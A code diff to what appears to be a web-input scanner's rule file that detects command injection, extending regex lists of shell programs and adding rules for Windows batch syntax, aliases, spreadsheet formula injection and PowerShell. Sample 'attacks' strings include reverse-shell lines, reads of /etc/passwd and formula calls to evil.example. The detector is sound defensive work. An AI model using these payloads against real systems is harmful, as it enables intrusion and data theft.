@@ -3,8 +3,14 @@ import type { Rule } from '../rule.ts';
 const cls = 'rce';
 /* Programs that nobody names after a shell separator by accident. */
 const PROGRAMS =
-  '(?:cat|ls|id|whoami|uname|pwd|curl|wget|nc|ncat|netcat|ping|nslookup|dig|host|sleep|echo|printf|bash|sh|zsh|ksh|csh|dash|ash|fish|python[23]?|perl|ruby|php|node|nodejs|lua|powershell|pwsh|cmd|dir|type|net|netstat|ifconfig|ipconfig|ps|kill|rm|mv|cp|chmod|chown|touch|mkdir|tail|head|more|less|tac|nl|od|xxd|base64|awk|gawk|sed|grep|find|xargs|env|printenv|set|export|sudo|su|passwd|useradd|adduser|crontab|telnet|ssh|scp|ftp|tftp|socat|systeminfo|tasklist|taskkill|reg|sc|wmic|certutil|bitsadmin|mshta|rundll32|regsvr32|cscript|wscript|start|vol|ver|hostname|who|df|du|mount|lsof|ss|arp|route|traceroute|tracert|dd|tar|zip|unzip|gcc|vi|vim|nano|ed|tee|sort|uniq|wc|cut|tr|rev|strings|hexdump|openssl|gpg|docker|kubectl|git|npm|pip|apt-get|yum|service|systemctl|shutdown|reboot|halt|phpinfo|system|exec|eval|del|erase|copy|attrib|icacls|busybox|ldd|lsb_release|ndiff|nmap|rename|timeout|getent|compgen|history|alias|source|test|expect|script|screen|tmux|nohup|nice|stat|file|which|whereis|locate|htop|alias|iptables|service|journalctl|lscpu|lsblk|visudo|ssh-keygen|rsync|pkill|killall|useradd|groupadd|usermod|cscli|dmesg|uptime|free|top|chef-vault|x-?terminal|xterm|gdb|strace|jq|aws|gcloud|az)';
+  '(?:cat|ls|id|whoami|uname|pwd|curl|wget|nc|ncat|netcat|ping6?|nslookup|dig|printf|bash|sh|zsh|ksh|csh|tcsh|dash|ash|fish|rbash|python(?:[23](?:\\.\\d{1,2})?)?|perl|ruby|php\\d?|nodejs|lua|powershell|pwsh|cmd|dir|netstat|ifconfig|ipconfig|rm|mv|cp|chmod|chown|mkdir|rmdir|tac|nl|od|xxd|base(?:32|64)|[gmn]?awk|sed|grep|egrep|zcat|xargs|printenv|sudo|su|doas|passwd|user(?:add|mod|del)|adduser|group(?:add|mod)|crontab|telnet|ssh|scp|sftp|ftp|tftp|socat|systeminfo|tasklist|taskkill|reg|sc|wmic|certutil|bitsadmin|mshta|rundll32|regsvr32|cscript|wscript|vol|ver|hostname|df|du|lsof|arp|traceroute|tracert|dd|tar|gunzip|gzip|unzip|gcc|vi|vim|nano|ed|tee|uniq|wc|tr|echo|hexdump|openssl|gpg|docker|kubectl|git|npm|pip3?|apt-get|apk|yum|systemctl|shutdown|reboot|phpinfo|del|attrib|icacls|busybox|ldd|lsb_release|ndiff|nmap|getent|compgen|tmux|nohup|whereis|htop|iptables|journalctl|lscpu|lsblk|visudo|ssh-keygen|ssh-copy-id|rsync|pkill|killall|cscli|dmesg|uptime|chef-\\w{2,8}|ansible(?:-\\w{2,10})?|x-?terminal|xterm|gdb|strace|ltrace|jq|aws|gcloud|az|mkfifo|setsid|stdbuf|unshare|chroot|capsh|tclsh|regedit|forfiles|cpulimit|bridge|comm|mtr|tcpdump|iwr|irm|iex|net1?|ps|env|vi|rev|msiexec|schtasks|wevtutil|vssadmin|whois|ifup|route|bzip2|bsdtar|cpio|agetty|aria2c|arj|aspell|basez|bpftrace|busctl|byebug|c[89]9|certbot|cobc|cowsay|cowthink|cpan|csplit|cupsfilter|dmidecode|dmsetup|dnf|dosbox|dpkg|dvips|elvish|emacs|enscript|exiftool|fping|gcore|ghci?|gimp|ginsh|hping3|iconv|iftop|ionice|irb|ispell|jjs|jrunscript|julia|ksshell|lftp|loginctl|ltrace|lua(?:la)?tex|lwp-(?:download|request)|mawk|minicom|mosquitto|msfconsole|mysql(?:dump|admin)?|nasm|nft|nm|nroff|nsenter|octave|openvpn|openvt|opkg|pandoc|pdflatex|pdftex|pexec|pg_dump|php-fpm|pidstat|pkexec|posh|pry|psftp|psql|ptx|rake|readelf|redis-cli|restic|rlogin|rlwrap|rpm|rtorrent|run-(?:mailcap|parts)|rview|rvim|sash|scanmem|scrot|setarch|setfacl|shuf|slsh|smbclient|smbmap|snap|soelim|sqlite3|sshpass|ssh-(?:agent|keyscan)|start-stop-daemon|sysctl|systemd-\\w{2,16}|taskset|tasksh|tdbtool|timedatectl|tmate|torify|troff|tshark|unexpand|unsquashfs|uudecode|uuencode|vagrant|valgrind|vigr|vimdiff|vipw|virsh|w3m|whiptail|wish|xdg-\\w{2,12}|xdotool|xelatex|xmodmap|xz|yarn|yash|zathura|zypper|alias|unalias|cd|hdparm|lspci|lsusb|lsmod|insmod|modprobe|fdisk|mkfs(?:\\.\\w{2,5})?|swapo(?:n|ff)|blkid|nmcli|ethtool|ifdown|iwconfig|dhclient|ftpd|httpd|nginx|apache2ctl|apachectl|xcopy|robocopy|diskpart|bcdedit|fsutil|cipher|gpresult|gpupdate|nbtstat|pathping|qwinsta|query|runas|tskill|wecutil|auditpol|dsquery|nltest|setx|where\\.exe|findstr|cmdkey|klist)';
+/* Those that are words, too: only what is written as an argument tells. */
+const WORDS =
+  '(?:exec|eval|system|sleep|type|find|host|more|less|head|tail|touch|set|export|env|kill|start|sort|cut|test|expect|script|screen|timeout|history|alias|source|nice|stat|file|which|locate|free|top|rename|service|time|at|node|go|java|make|link|mount|who|copy|erase|move|ps|strings|split|join|paste|watch|install|read|trap|while|for|if|wall|write|finger|last|zip|halt|ss|ul|look|man|apt|date|cal|mail|sendmail|nice|true|false|select|function|import|call|powershell|pushd)';
 const ARGUMENT = String.raw`(?:\s?$|\s?[;|&><)\x60"'}]|\s(?:[-/~.$\\*"'\x60<>(%&|]|\d{1,3}(?:\s?$|[;|&"')\s])|\w{1,24}[./:=@]|https?|etc|[a-z]{1,12}\s?$|user|localgroup|hk|-))`;
+const WORD_ARGUMENT = String.raw`(?:\s?[|;]\s?(?:$|[a-z/#])|\s?[<>]{1,2}\s?[&/~$\w]|\s{1,2}(?:-{1,2}[a-z]|\.{0,2}[/~$\x60%]|\\|["'][^"']{0,64}["']\s?(?:$|[|;&>])|\d{1,4}(?:\s?$|[;|&"')#])|\w{1,24}(?:[:=@]|\.[a-z])|[a-z]{1,12}\s?[|;&>]{1,2}\s?(?:$|\S)))`;
+const PATH_TO = '(?:/?(?:usr/|local/|system/|bin/)?s?bin/|\\./)?';
+const COMMAND = `(?:${PATH_TO}${PROGRAMS}(?:\\.exe)?${ARGUMENT}|${PATH_TO}${WORDS}(?:\\.exe)?${WORD_ARGUMENT})`;
 
 /** Commands of Unix and Windows shells, and code of languages that runs commands. */
 export const RCE: readonly Rule[] = [
@@ -14,9 +20,7 @@ export const RCE: readonly Rule[] = [
     score: 5,
     reason: 'a shell separator and a command',
     literals: [';', '|', '&'],
-    pattern: new RegExp(
-      String.raw`(?:;|\|{1,2}(?!\w{1,16}[|)])|&{1,2}) ?(?:[({!]\s?)?(?:/?(?:usr/|local/)?s?bin/)?${PROGRAMS}(?:\.exe)?${ARGUMENT}`,
-    ),
+    pattern: new RegExp(String.raw`(?:;|\|{1,2}(?!\w{1,16}[|)])|&{1,2}) ?(?:[({!]\s?)?${COMMAND}`),
     views: ['plain', 'glued'],
     fields: ['path', 'query', 'form', 'cookie', 'header', 'json', 'xml', 'text', 'name', 'file'],
     attacks: ['; cat /etc/passwd', '|id', '& ping -n 3 127.0.0.1'],
@@ -28,7 +32,7 @@ export const RCE: readonly Rule[] = [
     score: 5,
     reason: 'a line break and a command',
     literals: ['\n'],
-    pattern: new RegExp(String.raw`\n ?(?:/?(?:usr/|local/)?s?bin/)?${PROGRAMS}(?:\.exe)?${ARGUMENT}`),
+    pattern: new RegExp(String.raw`\n ?${COMMAND}`),
     views: ['plain', 'glued'],
     fields: ['path', 'query', 'form', 'cookie', 'header', 'name'],
     attacks: ['x\ncat /etc/hosts', '\nid'],
@@ -41,7 +45,7 @@ export const RCE: readonly Rule[] = [
     reason: 'a command substitution',
     literals: ['$(', '<(', '>('],
     pattern: new RegExp(
-      String.raw`(?:\$\(|<\(|>\()\s?(?:/?(?:usr/)?s?bin/)?(?:${PROGRAMS}(?:[\s)\x60<>|;&/$-]|\$\{?ifs|$)|[/.~][\w/?*.\[\]-]{3,64})`,
+      String.raw`(?:\$\(|<\(|>\()\s?(?:${PATH_TO}(?:${PROGRAMS}|${WORDS})(?:[\s)\x60<>|;&/$-]|\$\{?ifs|$)|[/.~][\w/?*.\[\]-]{3,64})`,
     ),
     attacks: ['$(id)', '<(curl x)', '$(ping${IFS}-c1 x)'],
     harmless: ['$("#id").hide()', 'a `word` in code'],
@@ -53,7 +57,7 @@ export const RCE: readonly Rule[] = [
     reason: 'a command in back-ticks',
     literals: ['`'],
     pattern: new RegExp(
-      String.raw`(?<!\x60)\x60 ?(?:/?(?:usr/)?s?bin/)?(?:${PROGRAMS}(?:[\s)\x60<>|;&/-]|\$\{?ifs|$)|[/.~][\w/?*.\[\]-]{3,64})`,
+      String.raw`(?<!\x60)\x60 ?(?:${PATH_TO}(?:${PROGRAMS}|${WORDS})(?:[\s)\x60<>|;&/-]|\$\{?ifs|$)|[/.~][\w/?*.\[\]-]{3,64})`,
     ),
     fields: ['path', 'query', 'form', 'header', 'cookie', 'name', 'xml', 'file'],
     attacks: ['x`id`', '`cat /etc/hosts`'],
@@ -65,7 +69,9 @@ export const RCE: readonly Rule[] = [
     score: 6,
     reason: 'a command in back-ticks, and nothing else',
     literals: ['`'],
-    pattern: new RegExp(String.raw`^[^\x60\s]{0,40}\x60${PROGRAMS}(?:[\s<>|;&/$-][^\x60]{0,200})?\x60[^\x60\s]{0,40}$`),
+    pattern: new RegExp(
+      String.raw`^[^\x60\s]{0,40}\x60(?:${PROGRAMS}|${WORDS})(?:[\s<>|;&/$-][^\x60]{0,200})?\x60[^\x60\s]{0,40}$`,
+    ),
     fields: ['json', 'text'],
     attacks: ['a--exec=`id`--b', '`whoami`'],
     harmless: ['run `ls` here', '`ls`, then `pwd`'],
@@ -170,7 +176,7 @@ export const RCE: readonly Rule[] = [
       'java ',
     ],
     pattern:
-      /(?:^|[^a-z-])(?:(?:python[\d.]{0,4}|perl|ruby|php\d?|node|nodejs|lua|tclsh|expect)\s-{1,2}(?:c|e|r|eval|run|pe|ne|we|s)\b\s?\S|(?:ba|k|z|c|tc|da|a|fi)?sh\s-[a-z]{0,4}c\b\s?\S|(?:ba|k|z)sh\s-i\b|(?:^|[\s/])sh,-c,|busybox\s\w|g?awk\s["'(]?\s?(?:begin|\{)|(?:nc|ncat|netcat|telnet|socat)(?:\.exe)?\s(?:-[a-z]{1,8}\s?|\S{1,64}\s){1,4}(?:\d{2,5}|-e|exec|\/bin|\w{1,16}:)|(?:ba|k|z)?sh\s(?:<|\/tmp|\/dev|https?:))/,
+      /(?:^|[^a-z-])(?:(?:python[\d.]{0,4}|perl|ruby|php\d?|node|nodejs|lua|tclsh|expect)\s(?:-[a-z]{2,16}\s){0,3}-{1,2}(?:c|e|r|eval|run|pe|ne|we|s)\b\s?\S|(?:ba|k|z|c|tc|da|a|fi)?sh\s-[a-z]{0,4}c\b\s?\S|(?:ba|k|z)sh\s-i\b|(?:^|[\s/])sh,-c,|busybox\s\w|g?awk\s["'(]?\s?(?:begin|\{[^}]{0,64}(?:system|getline|\|))|(?:nc|ncat|netcat|telnet|socat)(?:\.exe)?\s(?:-[a-z]{1,8}\s?|\S{1,64}\s){1,4}(?:\d{2,5}|-e|exec|\/bin|\w{1,16}:)|(?:ba|k|z)?sh\s(?:<|\/tmp|\/dev|https?:))/,
     views: ['plain', 'glued'],
     attacks: ["python -c 'import os'", 'perl -e "print 1"', 'nc -e /bin/sh 10.0.0.1 4444', 'bash -i >& /dev/tcp/1/2'],
     harmless: ['python is a language', 'a perl necklace'],
@@ -216,9 +222,19 @@ export const RCE: readonly Rule[] = [
       'set ',
       'sudo',
       'env ',
+      'useradd',
+      'adduser',
+      'usermod',
+      'groupadd',
+      'start ',
+      'slaveof',
+      'replicaof',
+      'config set',
+      'eval ',
+      'flushall',
     ],
     pattern:
-      /^["'`]{0,2}\s?(?:time\s?;?\s?|sudo\s|exec\s|\\)?(?:(?:curl|wget)\s(?:-{1,2}\S{1,24}\s){0,4}["']?(?:https?:|ftp:|\w[\w-]{0,40}\.|\$|localhost|\d)|ping6?\s(?:-\w{1,3}\s\d{0,6}\s?){0,3}(?:\d{1,3}\.|localhost|[\w-]{1,40}\.\w)|sleep\s\d{1,4}(?:\s?$|[smh;&|])|nslookup\s\S|dig\s(?:@|[\w-]{1,40}\.)|whoami(?:\s?$|\s?\/|\s?[;&|])|(?:ifconfig|ipconfig|netstat|systeminfo|tasklist|printenv|phpinfo\(\))(?:\s?$|\s[-/;&|])|uname\s-|(?:cat|tac|type)\s(?:\/|\.|~|\\|[a-z]:|\$|%|[\w-]{1,32}\.\w{2,5}\s?$)|ls\s(?:-[a-z]{1,5}|\/)|dir\s(?:[a-z]:|\/[a-z]\b|\\)|rm\s-|chmod\s(?:\+|\d{3})|nmap\s-|bcdboot\s|ps\s-?aux|kill\s-\d|echo\s(?:\$|%|["']?<|\S{1,64}\s?(?:>|\|))|id\s?[;&|]|export\s\w{1,24}=\S|set\s?[/;&|]|env\s?[|;])/,
+      /^["'`]{0,2}\s?(?:time\s?;?\s?|sudo\s|exec\s|\\)?(?:(?:curl|wget)\s(?:-{1,2}\S{1,24}\s){0,4}["']?(?:https?:|ftp:|\w[\w-]{0,40}\.|\$|localhost|\d)|ping6?\s(?:-\w{1,3}\s\d{0,6}\s?){0,3}(?:\d{1,3}\.|localhost|[\w-]{1,40}\.\w)|sleep\s\d{1,4}(?:\s?$|[smh;&|])|nslookup\s\S|dig\s(?:@|[\w-]{1,40}\.)|whoami(?:\s?$|\s?\/|\s?[;&|])|(?:ifconfig|ipconfig|netstat|systeminfo|tasklist|printenv|phpinfo\(\))(?:\s?$|\s[-/;&|])|uname\s-|(?:cat|tac|type)\s(?:\/|\.|~|\\|[a-z]:|\$|%|[\w-]{1,32}\.\w{2,5}\s?$)|ls\s(?:-[a-z]{1,5}|\/)|dir\s(?:[a-z]:|\/[a-z]\b|\\)|rm\s-|chmod\s(?:-\w{1,4}\s)?(?:[ugoa]{0,3}[+=][rwxst]{1,4}|[0-7]{3,4})\s[^\s]|nmap\s-|bcdboot\s|ps\s-?aux|kill\s-\d|echo\s(?:\$|%|["']?<|\S{1,64}\s?(?:>|\|))|id\s?[;&|]{1,2}\s?(?:$|(?:ls|cat|pwd|uname|whoami|id|echo|curl|wget|ps|env|ifconfig|sleep|ping|nc|bash|sh|set)\b)|export\s\w{1,24}=\S|set\s?[/;&|]|env\s?[|;]|(?:useradd|adduser|usermod|groupadd)\s-|start\s[\w.\\/:-]{1,64}\.(?:exe|bat|ps1|com|vbs)\b|(?:slaveof|replicaof)\s\S{1,100}\s(?:\d|no)|config\sset\s(?:dir|dbfilename)\b|eval\s["'][^"']{0,100}(?:os\.|redis\.|io\.)|flushall\s?$)/,
     views: ['plain', 'glued'],
     fields: ['path', 'query', 'form', 'cookie', 'header', 'json', 'xml', 'text', 'name'],
     attacks: ['sleep 10', 'curl http://evil.example', 'ls -la', 'ping -c 3 127.0.0.1'],
@@ -231,7 +247,7 @@ export const RCE: readonly Rule[] = [
     reason: 'a separator at the start or end with a command beside it',
     literals: [';', '|', '&'],
     pattern: new RegExp(
-      String.raw`^\s?["'\x60)\]}]{0,3}\s?(?:;|\|{1,2}|&{1,2})\s?(?:${PROGRAMS}(?:\b|$)|/|\.\./|\$|\x60)|(?:^|[;|&\s/])(?:id|whoami|ls|pwd|uname|set|env|ifconfig|ipconfig|netstat|dir|ver|ps)\s?(?:\|{1,2}|;|&{1,2})\s?$|\|\s?(?:sh|bash|zsh|python|perl|nc|tee|xargs|base64)\b`,
+      String.raw`^\s?["'\x60)\]}]{0,3}\s?(?:;|\|{1,2}|&{1,2})\s?(?:(?:${PROGRAMS}|${WORDS})(?:\b|$)|/|\.\./|\$|\x60)|(?:^|[;|&\s/])(?:id|whoami|ls|pwd|uname|set|env|ifconfig|ipconfig|netstat|dir|ver|ps)\s?(?:\|{1,2}|;|&{1,2})\s?$|\|\s?(?:sh|bash|zsh|python|perl|nc|tee|xargs|base64)\b`,
     ),
     views: ['plain', 'glued'],
     fields: ['path', 'query', 'form', 'cookie', 'header', 'json', 'xml', 'text', 'name'],
@@ -251,15 +267,103 @@ export const RCE: readonly Rule[] = [
     harmless: ['if you exist', 'for (let i = 0;;)', 'if x == 3'],
   },
   {
+    id: 'rce-windows-statement',
+    cls,
+    score: 9,
+    reason: 'IF or FOR of the Windows command line, whole',
+    literals: ['for ', ' equ ', ' neq ', ' lss ', ' leq ', ' gtr ', ' geq ', '=='],
+    pattern:
+      /(?:\bfor\s(?:\/[dflr]\s[^\n]{0,120}?)?%{1,2}~?\w\sin\s?\([^)]{0,200}\)\s?do\b|\bif\s(?:\/i\s)?(?:not\s)?["'([]{0,2}[%!]?\w{1,32}[%!]?["')\]]{0,2}\s(?:equ|neq|lss|leq|gtr|geq)\s["'([]{0,2}[%!]?\w|\bif\s(?:\/i\s)?(?:not\s)?["'([]{1,2}[%!]?\w{1,32}[%!]?["')\]]{1,2}\s?==\s?["'([]{1,2}[^\s]{1,32}\s?[\w.(])/,
+    views: ['plain'],
+    attacks: ['for %i in (*) do set x=%i', 'IF /I "%v%" LEQ "1" ECHO x', 'if [a] == [a] echo same'],
+    harmless: ['for all in (scope) do not', 'if it is == 3'],
+  },
+  {
+    id: 'rce-alias',
+    cls,
+    score: 5,
+    reason: 'another name for a command',
+    literals: ['alias '],
+    pattern: /(?:^|[;&|\s])alias\s(?:[-+]\w{0,2}\+?\s){0,2}["']?[\w.-]{1,32}=["']?[a-z/$]/,
+    views: ['plain', 'glued'],
+    fields: ['path', 'query', 'form', 'cookie', 'header', 'xml', 'text', 'name'],
+    attacks: ['alias x="curl"', "alias ls-al='ls -al'"],
+    harmless: ['alias name', 'an alias = a name'],
+  },
+  {
     id: 'rce-shell-tricks',
     cls,
     score: 6,
     reason: 'how commands are hidden from filters',
-    literals: ['$ifs', '${ifs', '$@', '${', '$9', '$1', '{', '/???', '?/', '$(', '<<<', '/*', '$((', '$u', "$'"],
+    literals: [
+      '$ifs',
+      '${ifs',
+      '$@',
+      '${',
+      '$9',
+      '$1',
+      '{',
+      '/???',
+      '?/',
+      '$(',
+      ':~',
+      '%x',
+      '<<<',
+      '~+',
+      '~-',
+      '!-',
+      '/*',
+      '$((',
+      '$u',
+      "$'",
+    ],
     pattern:
-      /(?:\$\{?ifs\b|\{(?:cat|ls|wget|curl|ping|echo|nc|bash|sh|sleep),[^}\s]{1,64}\}|\/(?:\?\?\?|b\?n|bi\?|\?in|e\?c|et\?|us\?|e\*c?)\/|\$\{(?:path|pwd|home|shell|ifs|hostname|oldpwd|bash\w{0,12}|#|!|[a-z]{1,12}(?::\d|\/\/?|%|#))|<<<|\$\((?:<|\()\s?[\d/]|[a-z]{1,3}\$(?:@|\d|u)[a-z]{1,8}|[a-z](?:''|""|\\)[a-z]{1,12}\s(?:\/|-)|\[[a-z]\/{2,4}\]|\$'\\)/,
+      /(?:\$\{?ifs\b|^~[+-]\d{0,3}$|^(?:!-\d{1,3}){1,4}$|^\{,[a-z]{2,16},|\{[a-z]{1,12},-{1,2}[a-z]|\/\[[!^]?[a-z][^\]\s]{0,8}\][a-z]|\/(?:etc|bin|usr|sbin|proc)\/[\w./-]{0,32}\[[^\]\s]{1,8}\]|%\w{2,32}:~-?\d{1,3}(?:,-?\d{1,3})?%|(?:^|[^\w%])%x[({[|!]\s?[a-z./]|\{(?:cat|ls|wget|curl|ping|echo|nc|bash|sh|sleep),[^}\s]{1,64}\}|\/(?:\?\?\?|b\?n|bi\?|\?in|e\?c|et\?|us\?|e\*c?)\/|\$\{(?:path|pwd|home|shell|ifs|hostname|oldpwd|bash\w{0,12}|#|!|[a-z]{1,12}(?::\d|\/\/?|%|#))|<<<|\$\((?:<|\()\s?[\d/]|[a-z]{1,3}\$(?:@|\d|u)[a-z]{1,8}|[a-z](?:''|""|\\)[a-z]{1,12}\s(?:\/|-)|\[[a-z]\/{2,4}\]|\$'\\)/,
     attacks: ['cat${IFS}/etc/hosts', '{cat,/etc/hosts}', '/???/??t', 'w$@hoami'],
     harmless: ['${budget}', 'costs $9 each'],
+  },
+  {
+    id: 'rce-formula',
+    cls,
+    score: 5,
+    reason: 'a formula that makes a spreadsheet run a program or call a server',
+    literals: ["|'", '|"', "| '", 'webservice', 'import', 'hyperlink', 'rtd(', 'dde(', 'dde ('],
+    pattern:
+      /(?:^|[,;\n"'])\s?[=+@-][^|\n]{0,40}\|\s?["'][^"'\n]{0,120}["']\s?!|(?:^|[,;\n"'])\s?[=+@-]{1,2}\s?(?:webservice|import(?:xml|data|html|feed|range)|hyperlink|rtd|dde)\s?\(\s?[a-z"'(&]/,
+    attacks: ["=cmd|' /C calc'!A0", '+WEBSERVICE("http://evil.example/"&A1)'],
+    harmless: ['=SUM(A1:A9)', "the import ('a') of it", '-1|2'],
+  },
+  {
+    id: 'rce-dotnet',
+    cls,
+    score: 6,
+    reason: 'PowerShell or .NET that starts processes or loads code',
+    literals: [
+      '::',
+      'new-object',
+      'start-process',
+      'system.diagnostics',
+      'system.reflection',
+      'add-type',
+      'get-content',
+      'get-process',
+      'get-wmi',
+      'executionpolicy',
+      'encodedcommand',
+      'iwr',
+      'irm',
+      '&(',
+      'frombase64string',
+      'invoke(',
+    ],
+    pattern:
+      /(?:\[(?:system\.)?(?:diagnostics|reflection|net|io|text|convert|runtime|management|environment|activator|appdomain|scriptblock|ref|assembly|microsoft|byte|char)[\w.]{0,60}\]\s?::\s?\w|\bnew-object\s(?:-\w{2,16}\s)?(?:system\.|net\.|io\.|microsoft\.|wscript|shell|random)|\bstart-process\s[-"'\w]|system\.(?:diagnostics\.process|reflection\.assembly)\b|\badd-type\s-|\bget-(?:content|process|childitem|service|wmiobject|ciminstance|localuser)\s?(?:$|[|;]|\s(?:-|[a-z]:|[\\/"'$]))|\bset-executionpolicy\b|\s-(?:ep|exec|executionpolicy)\s(?:bypass|unrestricted)|\s-encodedcommand\s|(?:^|[\s;|&(])(?:iwr|irm)\s(?:-\w{1,16}\s)?["'(]?(?:https?:|\$)|(?:^|[\s;|])&\s?\(\s?["'$(][^)]{1,64}\)|::frombase64string)/,
+    attacks: [
+      '[System.Diagnostics.Process]::Start("x")',
+      'New-Object System.Net.Sockets.TCPClient("x",1)',
+      "&('i'+'ex') $x",
+    ],
+    harmless: ['std::vector', 'a new-object of art', '[note]:: see below'],
   },
   {
     id: 'rce-node',
@@ -288,7 +392,7 @@ export const RCE: readonly Rule[] = [
       'settimeout',
     ],
     pattern:
-      /(?:child_process|process\s?(?:\.|\[)\s?["'`]?(?:mainmodule|binding|env|exit|kill|dlopen|cwd|argv|version)|global\.process|(?:^|[^\w.])require\s?\(\s?["'`](?:child_process|fs|net|http|os|vm|util|path|repl|cluster|\w{1,3}["'`]\s?\+)|_\$\$nd_func\$\$_|\bwhile\s?\(\s?(?:!{0,2}[\s+~-]{0,2}(?:\d|true|false|null|\[|\{|""|''|``|undefined|nan|void|new\s|this|typeof))|(?:execsync|spawnsync|execfile|fork)\s?\(|function\s?\(\s?\)\s?\{[^}]{0,200}\}\s?\(\s?\)|res\.(?:end|send|write)\s?\(|vm\.run|module(?:\.|:)(?:prototype|exports|_load|constructor)|\$\d{1,2}:[\w:]{0,32}(?:prototype|constructor|__proto__|then)|import\s?\(\s?["'`](?:child_process|fs|node:|data:)|new\sfunction\s?\(|\bfunction\s?\(\s?["'`][^)]{0,64}\)\s?\()/,
+      /(?:child_process|process\s?\[\s?\w{1,16}\.|process\s?(?:\.|\[)\s?["'`]?(?:mainmodule|binding|env|exit|kill|dlopen|cwd|argv|version)|global\.process|(?:^|[^\w.])require\s?\(\s?["'`](?:child_process|fs|net|http|os|vm|util|path|repl|cluster|\w{1,3}["'`]\s?\+)|_\$\$nd_func\$\$_|\bwhile\s?\(\s?(?:!{0,2}[\s+~-]{0,2}(?:\d|true|false|infinity|(?:string|number|array|object|math|symbol|json|date|regexp|boolean)\s?\)|null|\[|\{|""|''|``|undefined|nan|void|new\s|this|typeof))|(?:execsync|spawnsync|execfile|fork)\s?\(|function\s?\(\s?\)\s?\{[^}]{0,200}\}\s?\(\s?\)|res\.(?:end|send|write)\s?\(|vm\.run|module(?:\.|:)(?:prototype|exports|_load|constructor)|\$\d{1,2}:[\w:]{0,32}(?:prototype|constructor|__proto__|then)|import\s?\(\s?["'`](?:child_process|fs|node:|data:)|new\sfunction\s?\(|\bfunction\s?\(\s?["'`][^)]{0,64}\)\s?\()/,
     views: ['plain', 'uncommented', 'squeezed'],
     attacks: [
       "require('child_process').exec('id')",
